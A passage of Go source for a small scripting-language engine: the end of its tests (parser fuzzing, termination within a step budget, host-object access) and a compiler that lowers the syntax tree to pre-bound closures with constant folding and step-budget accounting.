		{float64(2.5), "2.5"},
		{true, "true"},
		{"s", "s"},
		{&Array{Elems: []Value{float64(1), "a"}}, "1,a"},
	}
	for _, tt := range tests {
		if got := ToString(tt.v); got != tt.want {
			t.Errorf("ToString(%v) = %q, want %q", tt.v, got, tt.want)
		}
	}
	o := NewObject()
	o.Props["b"] = float64(2)
	o.Props["a"] = float64(1)
	if got := ToString(o); got != "{a: 1, b: 2}" {
		t.Errorf("object ToString = %q", got)
	}
}

// Property: the parser never panics on arbitrary input.
func TestParseNeverPanics(t *testing.T) {
	f := func(s string) (ok bool) {
		defer func() {
			if recover() != nil {
				ok = false
			}
		}()
		_, _ = Parse(s)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error(err)
	}
}

// Property: every program either errors or terminates within the step
// budget — generated from grammar fragments to get interesting shapes.
func TestInterpreterTerminates(t *testing.T) {
	pieces := []string{
		"var x = 1;", "x = x + 1;", "if (x > 0) { x = 0; }",
		"for (var i = 0; i < 3; i++) { x += i; }",
		"while (x < 2) { x += 1; }",
		"function f(a) { return a; } f(x);",
		"var s = \"q\"; s += s;",
	}
	f := func(seed []uint8) bool {
		var b strings.Builder
		b.WriteString("var x = 0;")
		for _, s := range seed {
			b.WriteString(pieces[int(s)%len(pieces)])
		}
		ip := &Interp{MaxSteps: 100000}
		_, _ = ip.RunSource(b.String(), StdEnv(&Console{}))
		return true // termination is the property; errors are fine
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestHostObjectIntegration(t *testing.T) {
	// A minimal host object: property bag with an uppercase method.
	env := StdEnv(&Console{})
	env.Define("host", &testHost{props: map[string]Value{"x": float64(1)}})
	ip := &Interp{}
	v, err := ip.RunSource(`host.x = 5; host.up("ab") + host.x;`, env)
	if err != nil {
		t.Fatal(err)
	}
	if !Equals(v, "AB5") {
		t.Errorf("got %v", v)
	}
	if _, err := ip.RunSource(`host.forbidden = 1;`, env); err == nil {
		t.Error("forbidden set must error")
	}
}

type testHost struct{ props map[string]Value }

func (h *testHost) HostName() string { return "TestHost" }

func (h *testHost) HostGet(name string) (Value, error) {
	if name == "up" {
		return NativeFunc(func(args []Value) (Value, error) {
			return strings.ToUpper(ToString(args[0])), nil
		}), nil
	}
	return h.props[name], nil
}

func (h *testHost) HostSet(name string, v Value) error {
	if name == "forbidden" {
		return errors.New("nope")
	}
	h.props[name] = v
	return nil
}
