package script

import (
	"errors"
	"fmt"
	"math"
)

// This file lowers the parsed AST to the pre-bound closure chains the
// VM executes (vm.go). Each AST node compiles once into a cexpr/cstmt
// closure with its operands, line numbers, and child closures already
// bound, so re-execution pays no tree dispatch, no per-node type
// switches, and no sentinel-error control flow. Variable references
// resolve to slot indices at compile time (cscope below); binary
// operators specialize to per-op closures; constant and identifier
// operands fuse into their consuming node (simpleOp below) so the hot
// path of a loop iteration is a handful of direct loads rather than a
// chain of closure calls. A Compiled is immutable after Compile
// returns and safe for concurrent Run.

// Compiled is an immutable compiled program, reusable across runs and
// goroutines (each Run supplies its own VM and environment).
type Compiled struct {
	body compiledBlock
	// topNames maps the root frame's slots back to names so Run can
	// flush top-level declarations into the host Env, which is where
	// the interpreter defines them.
	topNames []string
	// dynCount is how many dynamic-read sites this program compiled to,
	// so Run sizes the machine's read cache in one allocation.
	dynCount int
}

// Compile lowers a parsed program. It does not fold; callers wanting
// the full pipeline use CompileSource, and the differential harness
// folds explicitly so both engines execute the same AST.
func Compile(prog *Program) *Compiled {
	top := newCscope(nil)
	for _, n := range declaredNames(prog.Body) {
		top.declare(n)
	}
	body := compileStmtList(prog.Body, top)
	names := make([]string, len(top.names))
	for n, i := range top.names {
		names[i] = n
	}
	return &Compiled{body: body, topNames: names, dynCount: *top.dyn}
}

// CompileSource runs the whole pipeline: parse, fold, compile.
func CompileSource(src string) (*Compiled, error) {
	prog, err := Parse(src)
	if err != nil {
		return nil, err
	}
	return Compile(Fold(prog)), nil
}

// cscope is the compile-time mirror of a runtime scope frame: the
// names a block declares, each with its slot index. The chain layout
// here must match frame creation in vm.go exactly — a cscope is
// created if and only if the corresponding runtime frame is.
type cscope struct {
	names  map[string]int
	parent *cscope
	// dyn numbers the dynamic (host-resolved) identifier sites in one
	// compilation, shared down the whole cscope tree; each site's ID
	// indexes the machine's per-run read cache.
	dyn *int
}

func newCscope(parent *cscope) *cscope {
	cs := &cscope{names: map[string]int{}, parent: parent}
	if parent != nil {
		cs.dyn = parent.dyn
	} else {
		cs.dyn = new(int)
	}
	return cs
}

func (cs *cscope) declare(name string) int {
	if i, ok := cs.names[name]; ok {
		return i
	}
	i := len(cs.names)
	cs.names[name] = i
	return i
}

// resolve collects every slot that may bind name, innermost first.
// Multiple candidates arise from shadowing; which one is live depends
// on which declarations have executed, so the accessors check
// boundness at run time.
func resolve(cs *cscope, name string) []slotRef {
	var refs []slotRef
	hops := 0
	for c := cs; c != nil; c = c.parent {
		if i, ok := c.names[name]; ok {
			refs = append(refs, slotRef{hops: hops, slot: i})
		}
		hops++
	}
	return refs
}

// declaredNames lists the names the statement list declares directly
// (var, var lists, function declarations). Nested blocks declare into
// their own frames.
func declaredNames(body []Stmt) []string {
	var names []string
	for _, s := range body {
		switch st := s.(type) {
		case *VarStmt:
			names = append(names, st.Name)
		case *VarListStmt:
			for _, d := range st.Decls {
				names = append(names, d.Name)
			}
		case *FuncDeclStmt:
			names = append(names, st.Name)
		}
	}
	return names
}

// Fold returns a program with constant subexpressions pre-evaluated:
// literal arithmetic, concatenation, comparisons, logical
// short-circuits, unary operators, and literal-condition ternaries.
// Operations that would error at runtime (e.g. "a" - 1) are left
// untouched so error text and line numbers are preserved. Folding
// removes the tick a folded operator would have charged, so the
// differential harness folds once and feeds the same program to both
// engines.
func Fold(prog *Program) *Program {
	return &Program{Body: foldStmts(prog.Body)}
}

func foldStmts(body []Stmt) []Stmt {
	out := make([]Stmt, len(body))
	for i, s := range body {
		out[i] = foldStmt(s)
	}
	return out
}

func foldStmt(s Stmt) Stmt {
	switch st := s.(type) {
	case *VarStmt:
		ns := *st
		if st.Init != nil {
			ns.Init = foldExpr(st.Init)
		}
		return &ns
	case *VarListStmt:
		decls := make([]*VarStmt, len(st.Decls))
		for i, d := range st.Decls {
			decls[i] = foldStmt(d).(*VarStmt)
		}
		return &VarListStmt{Decls: decls, Line: st.Line}
	case *ExprStmt:
		return &ExprStmt{X: foldExpr(st.X), Line: st.Line}
	case *IfStmt:
		ns := &IfStmt{Cond: foldExpr(st.Cond), Then: foldStmts(st.Then), Line: st.Line}
		if st.Else != nil {
			ns.Else = foldStmts(st.Else)
		}
		return ns
	case *WhileStmt:
		return &WhileStmt{Cond: foldExpr(st.Cond), Body: foldStmts(st.Body), Line: st.Line}
	case *ForStmt:
		ns := &ForStmt{Body: foldStmts(st.Body), Line: st.Line}
		if st.Init != nil {
			ns.Init = foldStmt(st.Init)
		}
		if st.Cond != nil {
			ns.Cond = foldExpr(st.Cond)
		}
		if st.Post != nil {
			ns.Post = foldStmt(st.Post)
		}
		return ns
	case *ReturnStmt:
		ns := &ReturnStmt{Line: st.Line}
		if st.X != nil {
			ns.X = foldExpr(st.X)
		}
		return ns
	case *BlockStmt:
		return &BlockStmt{Body: foldStmts(st.Body), Line: st.Line}
	case *FuncDeclStmt:
		return &FuncDeclStmt{Name: st.Name, Fn: foldFuncLit(st.Fn), Line: st.Line}
	default:
		// Break/Continue and anything future: nothing to fold.
		return s
	}
}

func foldFuncLit(fn *FuncLit) *FuncLit {
	return &FuncLit{Params: fn.Params, Body: foldStmts(fn.Body), Line: fn.Line}
}

// litVal extracts the value of a literal node.
func litVal(x Expr) (vmval, bool) {
	switch e := x.(type) {
	case *NumberLit:
		return vnum(e.Value), true
	case *StringLit:
		return vstr(e.Value), true
	case *BoolLit:
		return vbool(e.Value), true
	case *NullLit:
		return vmval{}, true
	}
	return vmval{}, false
}

// valLit builds a literal node for a scalar value; nil for references.
func valLit(v vmval) Expr {
	switch v.kind {
	case vNum:
		return &NumberLit{Value: v.num}
	case vStr:
		return &StringLit{Value: v.str}
	case vBool:
		return &BoolLit{Value: v.num != 0}
	case vNull:
		return &NullLit{}
	}
	return nil
}

func foldExprs(xs []Expr) []Expr {
	out := make([]Expr, len(xs))
	for i, x := range xs {
		out[i] = foldExpr(x)
	}
	return out
}

func foldExpr(x Expr) Expr {
	switch e := x.(type) {
	case *BinaryExpr:
		l, r := foldExpr(e.L), foldExpr(e.R)
		if e.Op == "&&" || e.Op == "||" {
			if lv, ok := litVal(l); ok {
				if truthy(lv) == (e.Op == "||") {
					return l
				}
				return r
			}
			return &BinaryExpr{Op: e.Op, L: l, R: r, Line: e.Line}
		}
		if lv, lok := litVal(l); lok {
			if rv, rok := litVal(r); rok {
				if out, err := binaryOp(e.Op, lv, rv, e.Line); err == nil {
					if lit := valLit(out); lit != nil {
						return lit
					}
				}
			}
		}
		return &BinaryExpr{Op: e.Op, L: l, R: r, Line: e.Line}
	case *UnaryExpr:
		sub := foldExpr(e.X)
		if v, ok := litVal(sub); ok {
			switch e.Op {
			case "!":
				return &BoolLit{Value: !truthy(v)}
			case "-":
				if v.kind == vNum {
					return &NumberLit{Value: -v.num}
				}
			case "typeof":
				return &StringLit{Value: typeOfV(v)}
			}
		}
		return &UnaryExpr{Op: e.Op, X: sub, Line: e.Line}
	case *CondExpr:
		c, t, f := foldExpr(e.Cond), foldExpr(e.Then), foldExpr(e.Else)
		if v, ok := litVal(c); ok {
			if truthy(v) {
				return t
			}
			return f
		}
		return &CondExpr{Cond: c, Then: t, Else: f, Line: e.Line}
	case *AssignExpr:
		return &AssignExpr{Op: e.Op, Target: foldExpr(e.Target), Value: foldExpr(e.Value), Line: e.Line}
	case *CallExpr:
		return &CallExpr{Fn: foldExpr(e.Fn), Args: foldExprs(e.Args), Line: e.Line}
	case *NewExpr:
		return &NewExpr{Fn: foldExpr(e.Fn), Args: foldExprs(e.Args), Line: e.Line}
	case *MemberExpr:
		return &MemberExpr{X: foldExpr(e.X), Name: e.Name, Line: e.Line}
	case *IndexExpr:
		return &IndexExpr{X: foldExpr(e.X), Index: foldExpr(e.Index), Line: e.Line}
	case *ObjectLit:
		return &ObjectLit{Keys: e.Keys, Values: foldExprs(e.Values), Line: e.Line}
	case *ArrayLit:
		return &ArrayLit{Elems: foldExprs(e.Elems), Line: e.Line}
	case *FuncLit:
		return foldFuncLit(e)
	default:
		// Leaf literals and idents fold to themselves.
		return x
	}
}

// opKind classifies a simpleOp.
type opKind uint8

const (
	opNone   opKind = iota
	opConst         // literal value, no tick
	opSlot          // single slot candidate, o.hops frames up
	opDyn           // identifier with zero or many slot candidates
	opBin           // binary operator over two simple operands
	opMember        // member read off a simple receiver
)

// Numeric fast-path opcodes for opBin. The shared loadCharged/load
// dispatch would make an indirect call through o.fn megamorphic; the
// opcode switch keeps the all-numbers case branch-predictable, with
// o.fn as the generic fallback.
const (
	bNone uint8 = iota
	bAdd
	bSub
	bMul
	bDiv
	bLt
	bGt
	bLe
	bGe
	bEq
	bNe
	bMod
)

func binOpc(op string) uint8 {
	switch op {
	case "+":
		return bAdd
	case "-":
		return bSub
	case "*":
		return bMul
	case "/":
		return bDiv
	case "<":
		return bLt
	case ">":
		return bGt
	case "<=":
		return bLe
	case ">=":
		return bGe
	case "==":
		return bEq
	case "!=":
		return bNe
	case "%":
		return bMod
	}
	return bNone
}

// numFast computes an opcode over two numbers; ok is false when the
// operands or operator need the generic fn. The NaN-involving ordered
// comparisons reproduce binaryOp's three-way comparison exactly
// (NaN <= NaN is true there, hence the negated forms).
func numFast(opc uint8, l, r vmval) (vmval, bool) {
	if l.kind != vNum || r.kind != vNum {
		return vmval{}, false
	}
	switch opc {
	case bAdd:
		return vnum(l.num + r.num), true
	case bSub:
		return vnum(l.num - r.num), true
	case bMul:
		return vnum(l.num * r.num), true
	case bDiv:
		return vnum(l.num / r.num), true
	case bLt:
		return vbool(l.num < r.num), true
	case bGt:
		return vbool(l.num > r.num), true
	case bLe:
		return vbool(!(l.num > r.num)), true
	case bGe:
		return vbool(!(l.num < r.num)), true
	case bEq:
		return vbool(l.num == r.num), true
	case bNe:
		return vbool(l.num != r.num), true
	case bMod:
		return vnum(fmod(l.num, r.num)), true
	}
	return vmval{}, false
}

// fmod is math.Mod with an integer fast path: for exactly-integral
// operands the truncated integer remainder matches math.Mod bit for bit
// (both take the dividend's sign), and skips the frexp-based float
// algorithm. A zero remainder falls back so the -0.0-for-negative-
// dividend behaviour is preserved.
func fmod(x, y float64) float64 {
	xi, yi := int64(x), int64(y)
	if float64(xi) == x && float64(yi) == y && yi != 0 {
		if m := xi % yi; m != 0 {
			return float64(m)
		}
		return math.Copysign(0, x)
	}
	return math.Mod(x, y)
}

// simpleOp is a fully-pre-resolved expression subtree the compiler
// evaluates inline without closure calls: constants, identifiers,
// binary chains over them, and member reads. A simple subtree becomes
// ONE closure with ONE batched fuel check (see cex), so a loop
// condition like i < n or a compound chain like (i % 3) == 0 costs a
// couple of direct loads instead of a closure call per node.
type simpleOp struct {
	kind opKind
	val  vmval
	slot int
	hops int
	refs []slotRef
	name string
	line int
	nt   int // ticks this subtree charges on its success path
	// dynID indexes the machine's per-run cache for host-global reads
	// (opDyn with no slot candidates); -1 disables caching.
	dynID int
	opc   uint8
	l, r  *simpleOp
	fn    func(l, r vmval) (vmval, error)
}

func simpleOperand(x Expr, cs *cscope) *simpleOp {
	switch e := x.(type) {
	case *litValue:
		return &simpleOp{kind: opConst, val: unbox(e.v)}
	case *NumberLit:
		return &simpleOp{kind: opConst, val: vnum(e.Value)}
	case *StringLit:
		// Pre-box the constant (ref) so host calls pass it for free.
		return &simpleOp{kind: opConst, val: vmval{kind: vStr, str: e.Value, ref: e.Value}}
	case *BoolLit:
		return &simpleOp{kind: opConst, val: vbool(e.Value)}
	case *NullLit:
		return &simpleOp{kind: opConst}
	case *Ident:
		refs := resolve(cs, e.Name)
		if len(refs) == 1 {
			return &simpleOp{kind: opSlot, slot: refs[0].slot, hops: refs[0].hops, name: e.Name, line: e.Line, nt: 1, dynID: -1}
		}
		id := -1
		if len(refs) == 0 {
			// A pure host-global read: eligible for the machine's
			// generation-validated cache.
			id = *cs.dyn
			*cs.dyn++
		}
		return &simpleOp{kind: opDyn, refs: refs, name: e.Name, line: e.Line, nt: 1, dynID: id}
	case *BinaryExpr:
		if e.Op == "&&" || e.Op == "||" {
			return nil // short-circuit: operand evaluation is conditional
		}
		l := simpleOperand(e.L, cs)
		if l == nil {
			return nil
		}
		r := simpleOperand(e.R, cs)
		if r == nil {
			return nil
		}
		return &simpleOp{kind: opBin, line: e.Line, nt: 1 + l.nt + r.nt, opc: binOpc(e.Op), l: l, r: r, fn: binFn(e.Op, e.Line)}
	case *MemberExpr:
		recv := simpleOperand(e.X, cs)
		if recv == nil {
			return nil
		}
		return &simpleOp{kind: opMember, name: e.Name, line: e.Line, nt: 1 + recv.nt, l: recv}
	}
	return nil
}

// read resolves an identifier operand without ticking (the pure Env
// walk, also used for compound-assignment old-value reads).
func (o *simpleOp) read(sc *scope) (vmval, error) {
	if o.kind == opSlot {
		s := sc
		for h := o.hops; h > 0; h-- {
			s = s.parent
		}
		if v := s.slots[o.slot]; v.kind != vUnbound {
			return v, nil
		}
		if v, ok := sc.host.Get(o.name); ok {
			return unbox(v), nil
		}
		return vmval{}, errUndefined(o.line, o.name)
	}
	if v, ok := loadVar(sc, o.refs, o.name); ok {
		return v, nil
	}
	return vmval{}, errUndefined(o.line, o.name)
}

// readDyn resolves a host-global read through the machine's
// generation-validated cache: a hit costs two pointer compares instead
// of an Env map-chain walk. Any Define or assignment anywhere bumps
// envGen (eval.go) and invalidates every entry.
func (o *simpleOp) readDyn(m *machine, sc *scope) (vmval, error) {
	if sc.host == nil {
		return vmval{}, errUndefined(o.line, o.name)
	}
	g := envGen.Load()
	for len(m.dynCache) <= o.dynID {
		m.dynCache = append(m.dynCache, dynEnt{})
	}
	e := &m.dynCache[o.dynID]
	if e.op == o && e.host == sc.host && e.gen == g {
		if !e.ok {
			return vmval{}, errUndefined(o.line, o.name)
		}
		return e.v, nil
	}
	v, ok := sc.host.Get(o.name)
	uv := unbox(v)
	*e = dynEnt{op: o, host: sc.host, gen: g, v: uv, ok: ok}
	if !ok {
		return vmval{}, errUndefined(o.line, o.name)
	}
	return uv, nil
}

// load evaluates with the full per-tick fuel check, replaying the
// exact tick order the unfused closures (and the interpreter) use, so
// fuel exhaustion mid-subtree reports the same line and step count.
func (o *simpleOp) load(m *machine, sc *scope) (vmval, error) {
	switch o.kind {
	case opConst:
		return o.val, nil
	case opBin:
		if err := m.tick(o.line); err != nil {
			return vmval{}, err
		}
		lv, err := o.l.load(m, sc)
		if err != nil {
			return vmval{}, err
		}
		rv, err := o.r.load(m, sc)
		if err != nil {
			return vmval{}, err
		}
		if v, ok := numFast(o.opc, lv, rv); ok {
			return v, nil
		}
		return o.fn(lv, rv)
	case opMember:
		if err := m.tick(o.line); err != nil {
			return vmval{}, err
		}
		recv, err := o.l.load(m, sc)
		if err != nil {
			return vmval{}, err
		}
		return getMemberV(recv, o.name, o.line)
	}
	*m.steps++
	if *m.steps > m.max {
		return vmval{}, fuelErr(o.line)
	}
	if o.kind == opDyn && o.dynID >= 0 {
		return o.readDyn(m, sc)
	}
	return o.read(sc)
}

// loadCharged evaluates assuming the caller pre-checked the fuel
// budget for the whole subtree (o.nt): counters are charged but cannot
// overflow here.
func (o *simpleOp) loadCharged(m *machine, sc *scope) (vmval, error) {
	switch o.kind {
	case opConst:
		return o.val, nil
	case opBin:
		*m.steps++
		var lv, rv vmval
		var err error
		// Leaf operands (constants and bound slots) resolve inline;
		// anything deeper recurses.
		switch o.l.kind {
		case opConst:
			lv = o.l.val
		case opSlot:
			*m.steps++
			s := sc
			for h := o.l.hops; h > 0; h-- {
				s = s.parent
			}
			if lv = s.slots[o.l.slot]; lv.kind == vUnbound {
				if lv, err = o.l.read(sc); err != nil {
					return vmval{}, err
				}
			}
		default:
			if lv, err = o.l.loadCharged(m, sc); err != nil {
				return vmval{}, err
			}
		}
		switch o.r.kind {
		case opConst:
			rv = o.r.val
		case opSlot:
			*m.steps++
			s := sc
			for h := o.r.hops; h > 0; h-- {
				s = s.parent
			}
			if rv = s.slots[o.r.slot]; rv.kind == vUnbound {
				if rv, err = o.r.read(sc); err != nil {
					return vmval{}, err
				}
			}
		default:
			if rv, err = o.r.loadCharged(m, sc); err != nil {
				return vmval{}, err
			}
		}
		if lv.kind == vNum && rv.kind == vNum {
			switch o.opc {
			case bAdd:
				return vnum(lv.num + rv.num), nil
			case bLt:
				return vbool(lv.num < rv.num), nil
			case bEq:
				return vbool(lv.num == rv.num), nil
			case bMod:
				return vnum(fmod(lv.num, rv.num)), nil
			}
			if v, ok := numFast(o.opc, lv, rv); ok {
				return v, nil
			}
		}
		return o.fn(lv, rv)
	case opMember:
		*m.steps++
		recv, err := o.l.loadCharged(m, sc)
		if err != nil {
			return vmval{}, err
		}
		return getMemberV(recv, o.name, o.line)
	}
	*m.steps++
	if o.kind == opDyn && o.dynID >= 0 {
		return o.readDyn(m, sc)
	}
	return o.read(sc)
}

// cex wraps a simple subtree as a cexpr: one batched budget check,
// then charged loads; near exhaustion it falls back to the exact
// per-tick replay.
func (o *simpleOp) cex() cexpr {
	nt := o.nt
	return func(m *machine, sc *scope) (vmval, error) {
		if *m.steps+nt > m.max {
			return o.load(m, sc)
		}
		return o.loadCharged(m, sc)
	}
}

// argOp is one operand site that is fused when the expression is
// simple (op set) and a compiled closure otherwise. Evaluating through
// the struct is a static call with a branch, cheaper than the closure
// indirection cex() would add for the fused case.
type argOp struct {
	op *simpleOp
	c  cexpr
}

func compileArgOp(x Expr, cs *cscope) argOp {
	if o := simpleOperand(x, cs); o != nil {
		return argOp{op: o}
	}
	return argOp{c: compileExpr(x, cs)}
}

func compileArgOps(xs []Expr, cs *cscope) []argOp {
	out := make([]argOp, len(xs))
	for i, x := range xs {
		out[i] = compileArgOp(x, cs)
	}
	return out
}

func (a *argOp) eval(m *machine, sc *scope) (vmval, error) {
	if a.op != nil {
		if *m.steps+a.op.nt > m.max {
			return a.op.load(m, sc)
		}
		return a.op.loadCharged(m, sc)
	}
	return a.c(m, sc)
}

// compileBlock compiles a nested block, giving it its own frame iff it
// declares anything (most loop bodies don't and share the enclosing
// frame, which is observably equivalent).
func compileBlock(body []Stmt, cs *cscope) compiledBlock {
	names := declaredNames(body)
	if len(names) == 0 {
		return compileStmtList(body, cs)
	}
	child := newCscope(cs)
	for _, n := range names {
		child.declare(n)
	}
	b := compileStmtList(body, child)
	b.numSlots = len(child.names)
	return b
}

// compileStmtList lowers a statement list against an already-built
// cscope. Declarations must be pre-registered in cs by the caller.
func compileStmtList(body []Stmt, cs *cscope) compiledBlock {
	b := compiledBlock{stmts: make([]cstmt, len(body))}
	for i, s := range body {
		b.stmts[i] = compileStmt(s, cs)
	}
	return b
}

func compileStmt(s Stmt, cs *cscope) cstmt {
	switch st := s.(type) {
	case *VarStmt:
		slot, line := cs.names[st.Name], st.Line
		if st.Init == nil {
			return func(m *machine, sc *scope) (vmval, ctrl, error) {
				if err := m.tick(line); err != nil {
					return vmval{}, ctrlNone, err
				}
				sc.slots[slot] = vmval{}
				return vmval{}, ctrlNone, nil
			}
		}
		if o := simpleOperand(st.Init, cs); o != nil {
			return func(m *machine, sc *scope) (vmval, ctrl, error) {
				if err := m.tick(line); err != nil {
					return vmval{}, ctrlNone, err
				}
				var v vmval
				var err error
				if *m.steps+o.nt > m.max {
					v, err = o.load(m, sc)
				} else {
					v, err = o.loadCharged(m, sc)
				}
				if err != nil {
					return vmval{}, ctrlNone, err
				}
				sc.slots[slot] = v
				return vmval{}, ctrlNone, nil
			}
		}
		init := compileExpr(st.Init, cs)
		return func(m *machine, sc *scope) (vmval, ctrl, error) {
			if err := m.tick(line); err != nil {
				return vmval{}, ctrlNone, err
			}
			v, err := init(m, sc)
			if err != nil {
				return vmval{}, ctrlNone, err
			}
			sc.slots[slot] = v
			return vmval{}, ctrlNone, nil
		}
	case *VarListStmt:
		decls := make([]cstmt, len(st.Decls))
		for i, d := range st.Decls {
			decls[i] = compileStmt(d, cs)
		}
		return func(m *machine, sc *scope) (vmval, ctrl, error) {
			for _, d := range decls {
				if _, _, err := d(m, sc); err != nil {
					return vmval{}, ctrlNone, err
				}
			}
			return vmval{}, ctrlNone, nil
		}
	case *FuncDeclStmt:
		cf := compileFuncLit(st.Fn, cs)
		slot := cs.names[st.Name]
		return func(m *machine, sc *scope) (vmval, ctrl, error) {
			sc.slots[slot] = vref(&vmClosure{fn: cf, sc: sc})
			return vmval{}, ctrlNone, nil
		}
	case *ExprStmt:
		if o := simpleOperand(st.X, cs); o != nil {
			return func(m *machine, sc *scope) (vmval, ctrl, error) {
				if *m.steps+o.nt > m.max {
					v, err := o.load(m, sc)
					return v, ctrlNone, err
				}
				v, err := o.loadCharged(m, sc)
				return v, ctrlNone, err
			}
		}
		e := compileExpr(st.X, cs)
		return func(m *machine, sc *scope) (vmval, ctrl, error) {
			v, err := e(m, sc)
			return v, ctrlNone, err
		}
	case *IfStmt:
		line := st.Line
		condOp := simpleOperand(st.Cond, cs)
		var cond cexpr
		if condOp == nil {
			cond = compileExpr(st.Cond, cs)
		}
		// Branches that are a single expression statement skip the
		// statement wrapper and control plumbing entirely — the dominant
		// loop-body shape (if (..) { x += 1; } else { y += 1; }).
		thenES, thenOK := singleExprStmt(st.Then)
		elsES, elsOK := singleExprStmt(st.Else)
		if thenOK && (st.Else == nil || elsOK) {
			thenX := compileExpr(thenES.X, cs)
			var elsX cexpr
			if st.Else != nil {
				elsX = compileExpr(elsES.X, cs)
			}
			return func(m *machine, sc *scope) (vmval, ctrl, error) {
				*m.steps++
				if *m.steps > m.max {
					return vmval{}, ctrlNone, fuelErr(line)
				}
				var c vmval
				var err error
				if condOp != nil {
					if *m.steps+condOp.nt > m.max {
						c, err = condOp.load(m, sc)
					} else {
						c, err = condOp.loadCharged(m, sc)
					}
				} else {
					c, err = cond(m, sc)
				}
				if err != nil {
					return vmval{}, ctrlNone, err
				}
				x := thenX
				if !truthy(c) {
					if elsX == nil {
						return vmval{}, ctrlNone, nil
					}
					x = elsX
				}
				v, err := x(m, sc)
				return v, ctrlNone, err
			}
		}
		then := compileBlock(st.Then, cs)
		var els *compiledBlock
		if st.Else != nil {
			b := compileBlock(st.Else, cs)
			els = &b
		}
		return func(m *machine, sc *scope) (vmval, ctrl, error) {
			*m.steps++
			if *m.steps > m.max {
				return vmval{}, ctrlNone, fuelErr(line)
			}
			var c vmval
			var err error
			if condOp != nil {
				if *m.steps+condOp.nt > m.max {
					c, err = condOp.load(m, sc)
				} else {
					c, err = condOp.loadCharged(m, sc)
				}
			} else {
				c, err = cond(m, sc)
			}
			if err != nil {
				return vmval{}, ctrlNone, err
			}
			b := then
			if !truthy(c) {
				if els == nil {
					return vmval{}, ctrlNone, nil
				}
				b = *els
			}
			if b.numSlots == 0 {
				// The branch shares this frame: run its statements
				// inline instead of through execChild/exec.
				var v vmval
				var ct ctrl
				for _, bs := range b.stmts {
					v, ct, err = bs(m, sc)
					if err != nil {
						return vmval{}, ctrlNone, err
					}
					if ct != ctrlNone {
						return v, ct, nil
					}
				}
				return v, ctrlNone, nil
			}
			return b.execChild(m, sc)
		}
	case *WhileStmt:
		line := st.Line
		condOp := simpleOperand(st.Cond, cs)
		var cond cexpr
		if condOp == nil {
			cond = compileExpr(st.Cond, cs)
		}
		body := compileBlock(st.Body, cs)
		return func(m *machine, sc *scope) (vmval, ctrl, error) {
			for {
				*m.steps++
				if *m.steps > m.max {
					return vmval{}, ctrlNone, fuelErr(line)
				}
				var c vmval
				var err error
				if condOp != nil {
					if *m.steps+condOp.nt > m.max {
						c, err = condOp.load(m, sc)
					} else {
						c, err = condOp.loadCharged(m, sc)
					}
				} else {
					c, err = cond(m, sc)
				}
				if err != nil {
					return vmval{}, ctrlNone, err
				}
				if !truthy(c) {
					return vmval{}, ctrlNone, nil
				}
				var v vmval
				var ct ctrl
				if body.numSlots == 0 {
					// The body shares this frame: run its statements
					// inline instead of through execChild/exec.
					for _, bs := range body.stmts {
						v, ct, err = bs(m, sc)
						if err != nil || ct != ctrlNone {
							break
						}
					}
				} else {
					v, ct, err = body.execChild(m, sc)
				}
				if err != nil {
					// break/continue can arrive as sentinel errors when
					// they escaped a function body (interpreter quirk,
					// preserved).
					if errors.As(err, &breakSignal{}) {
						return vmval{}, ctrlNone, nil
					}
					if errors.As(err, &continueSignal{}) {
						continue
					}
					return vmval{}, ctrlNone, err
				}
				switch ct {
				case ctrlBreak:
					return vmval{}, ctrlNone, nil
				case ctrlReturn:
					return v, ctrlReturn, nil
				}
			}
		}
	case *ForStmt:
		line := st.Line
		// A for statement always gets its own frame (the init
		// declaration lives there), matching the interpreter's child
		// env.
		fcs := newCscope(cs)
		if st.Init != nil {
			switch init := st.Init.(type) {
			case *VarStmt:
				fcs.declare(init.Name)
			case *VarListStmt:
				for _, d := range init.Decls {
					fcs.declare(d.Name)
				}
			}
		}
		var init, post cstmt
		var cond cexpr
		var condOp *simpleOp
		if st.Init != nil {
			init = compileStmt(st.Init, fcs)
		}
		if st.Cond != nil {
			condOp = simpleOperand(st.Cond, fcs)
			if condOp == nil {
				cond = compileExpr(st.Cond, fcs)
			}
		}
		if st.Post != nil {
			post = compileStmt(st.Post, fcs)
		}
		// The canonical post clause (i++ / i += c: a compound numeric
		// step on the loop's own slot) runs inline — two charged ticks,
		// no closure dispatch. Other shapes, a non-number in the slot,
		// or near-exhausted fuel take the generic compiled post.
		postSlot := -1
		var postDelta float64
		if es, ok := st.Post.(*ExprStmt); ok {
			if ae, ok := es.X.(*AssignExpr); ok && (ae.Op == "+=" || ae.Op == "-=") {
				if id, ok := ae.Target.(*Ident); ok {
					if refs := resolve(fcs, id.Name); len(refs) == 1 && refs[0].hops == 0 {
						if vo := simpleOperand(ae.Value, fcs); vo != nil && vo.kind == opConst && vo.val.kind == vNum {
							postSlot = refs[0].slot
							postDelta = vo.val.num
							if ae.Op == "-=" {
								postDelta = -postDelta
							}
						}
					}
				}
			}
		}
		// A single-expression body (parts.push(..), sum = f(sum)) runs
		// without the statement wrapper or control checks: an expression
		// cannot break or return (escaped break/continue arrive as
		// sentinel errors, handled below).
		var bodyX cexpr
		var body compiledBlock
		if es, ok := singleExprStmt(st.Body); ok {
			bodyX = compileExpr(es.X, fcs)
		} else {
			body = compileBlock(st.Body, fcs)
		}
		nslots := len(fcs.names)
		loop := func(m *machine, fsc *scope) (vmval, ctrl, error) {
			if init != nil {
				if _, _, err := init(m, fsc); err != nil {
					return vmval{}, ctrlNone, err
				}
			}
			for {
				*m.steps++
				if *m.steps > m.max {
					return vmval{}, ctrlNone, fuelErr(line)
				}
				if condOp != nil {
					var c vmval
					var err error
					if *m.steps+condOp.nt > m.max {
						c, err = condOp.load(m, fsc)
					} else {
						c, err = condOp.loadCharged(m, fsc)
					}
					if err != nil {
						return vmval{}, ctrlNone, err
					}
					if !truthy(c) {
						return vmval{}, ctrlNone, nil
					}
				} else if cond != nil {
					c, err := cond(m, fsc)
					if err != nil {
						return vmval{}, ctrlNone, err
					}
					if !truthy(c) {
						return vmval{}, ctrlNone, nil
					}
				}
				var v vmval
				var ct ctrl
				var err error
				if bodyX != nil {
					_, err = bodyX(m, fsc)
				} else if body.numSlots == 0 {
					for _, bs := range body.stmts {
						v, ct, err = bs(m, fsc)
						if err != nil || ct != ctrlNone {
							break
						}
					}
				} else {
					v, ct, err = body.execChild(m, fsc)
				}
				if err != nil {
					if errors.As(err, &breakSignal{}) {
